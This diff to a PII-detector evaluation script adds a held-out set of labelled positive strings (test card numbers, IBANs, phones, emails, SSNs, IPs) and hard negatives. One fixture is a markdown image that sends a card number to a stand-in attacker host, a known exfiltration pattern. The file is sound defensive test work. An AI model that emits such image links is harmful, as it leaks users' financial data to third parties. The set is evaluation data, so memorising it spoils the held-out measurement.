@@ -159,6 +159,73 @@ _NEGATIVE = (
     "Stack trace at line 4521 of app.js:1023:17",
 )
 
+# Set "b", written after the detector changes this set's first run led to, and never tuned on: its
+# figure is the honest one for those changes.
+_POSITIVE_B = (
+    "pls bill [[CREDIT_CARD|4000 0566 5566 5556]] monthly",
+    "the number on the card: [[CREDIT_CARD|5200-8282-8282-8210]]",
+    "Card [[CREDIT_CARD|3714 496353 98431]] exp 03/29",
+    "https://img.example.net/track/[[CREDIT_CARD|5105105105105100]]/open.png",
+    "![pixel](http://attacker.example/l?c=[[CREDIT_CARD|4012888888881881]])",
+    "card=[[CREDIT_CARD|6011000990139424]]",
+    "ccnum [[CREDIT_CARD|3566 0020 2036 0505]]",
+    "[[CREDIT_CARD|4242.4242.4242.4242]] is what I entered",
+    "POST /v2/pay/[[CREDIT_CARD|2223003122003222]]/confirm",
+    "Kontonummer: [[IBAN_CODE|DE89 3704 0044 0532 0130 00]]",
+    "[[IBAN_CODE|GB82 WEST 1234 5698 7654 32]] is my UK IBAN",
+    "Pay to [[IBAN_CODE|NL91ABNA0417164300]]",
+    "IBAN (HR): [[IBAN_CODE|HR12 1001 0051 8630 0016 0]]",
+    "[[IBAN_CODE|LU28 0019 4006 4475 0000]] (Luxembourg)",
+    "iban: [[IBAN_CODE|CZ65 0800 0000 1920 0014 5399]]",
+    "Maltese account [[IBAN_CODE|MT84 MALT 0110 0001 2345 MTLC AST0 01S]]",
+    "Dublin office [[PHONE_NUMBER|+353 1 234 5678]]",
+    "HQ: [[PHONE_NUMBER|+1 (650) 253-0000]]",
+    "tel: [[PHONE_NUMBER|0044 161 496 0000]]",
+    "[[PHONE_NUMBER|06 12 34 56 78]] (portable)",
+    "Moscow: [[PHONE_NUMBER|+7 495 123-45-67]]",
+    "Madrid [[PHONE_NUMBER|+34 912 345 678]]",
+    "ring [[PHONE_NUMBER|212-555-0187]] before noon",
+    "HK desk [[PHONE_NUMBER|+852 2123 4567]]",
+    "Seoul [[PHONE_NUMBER|+82 2-312-3456]]",
+    "ping [[EMAIL_ADDRESS|dev.ops+alerts@status.example.io]]",
+    "from [[EMAIL_ADDRESS|m_kowalski@firma.example.pl]]",
+    "write to [[EMAIL_ADDRESS|tom (at) example (dot) net]]",
+    "it's [[EMAIL_ADDRESS|anna DOT berg AT mail DOT se]]",
+    "reach [[EMAIL_ADDRESS|r.patel at example dot co dot in]] for access",
+    "reply-to: <[[EMAIL_ADDRESS|NoReply@Example.COM]]>",
+    "ss# [[US_SSN|301-72-4412]]",
+    "SSN [[US_SSN|545 21 9087]] on file",
+    "client ip [[IP_ADDRESS|198.51.100.23]]",
+    "link-local [[IP_ADDRESS|fe80::1ff:fe23:4567:890a%eth0]]",
+)
+_NEGATIVE_B = (
+    "Invoice INV-88231 dated 2025-01-14",
+    "Tracking: 1Z 999 AA1 01 2345 6784",
+    "DHL waybill JD014600006281234567",
+    "order 403-9923847-2239104 shipped",
+    "release 3.11.4, build 2025.01.14",
+    "2025-01-14 09:31:44,512 INFO worker started",
+    "uuid 123e4567-e89b-12d3-a456-426614174000",
+    "ISBN 978-0-596-52068-7",
+    "item 0-12345-67890-5 (UPC)",
+    "price: 1.299,00 EUR",
+    "customer C-3310 and C-3311 merged",
+    "GET /api/v2/customers/88231/orders/17",
+    "https://example.com/p/4403-2210-11/gallery",
+    "see page 1024, section 4.2.7",
+    "temperature 21.5 C at 14:05",
+    "latitude 40.7128, longitude -74.0060",
+    "port range 49152-65535",
+    "GTIN 00012345600012",
+    "the file is 1 048 576 bytes",
+    "iPhone 15 Pro, 256 GB",
+    "room 12B, 3rd floor",
+    "policy number POL-2024-778812",
+    "case #20250114-000183",
+    "https://youtu.be/dQw4w9WgXcQ?t=42",
+    "https://twitter.com/someone/status/1745123456789012345",
+)
+
 _MARK = re.compile(r"\[\[([A-Z_]+)\|(.+?)\]\](?!\])")
 
 
@@ -173,10 +240,11 @@ def _row(marked: str) -> dict[str, Any]:
     return {"text": text + marked[at:], "pii": spans}
 
 
-def fresh_rows() -> list[dict[str, Any]]:
-    """The positive rows (marked spans) and the hard negatives (nothing to find)."""
-    rows = [_row(marked) for marked in _POSITIVE]
-    rows += [{"text": text, "pii": [], "hard_negative": True} for text in _NEGATIVE]
+def fresh_rows(part: str = "a") -> list[dict[str, Any]]:
+    """The positive rows (marked spans) and the hard negatives (nothing to find) of set ``part``."""
+    positive, negative = (_POSITIVE, _NEGATIVE) if part == "a" else (_POSITIVE_B, _NEGATIVE_B)
+    rows = [_row(marked) for marked in positive]
+    rows += [{"text": text, "pii": [], "hard_negative": True} for text in negative]
     return rows
 
 
@@ -184,9 +252,10 @@ def main(argv: list[str] | None = None) -> int:
     parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
     parser.add_argument("--misses", action="store_true", help="print missed spans and false detections")
     parser.add_argument("--json", action="store_true")
+    parser.add_argument("--set", choices=("a", "b"), default="a", help="b: written later, never tuned on")
     args = parser.parse_args(argv)
     errors: list[dict[str, Any]] = []
-    figures = evaluate(fresh_rows(), source="pii_fresh", errors=errors)
+    figures = evaluate(fresh_rows(args.set), source=f"pii_fresh {args.set}", errors=errors)
     figures.pop("types_scored", None)
     print(json.dumps(figures) if args.json else json.dumps(figures, indent=1))
     if args.misses:
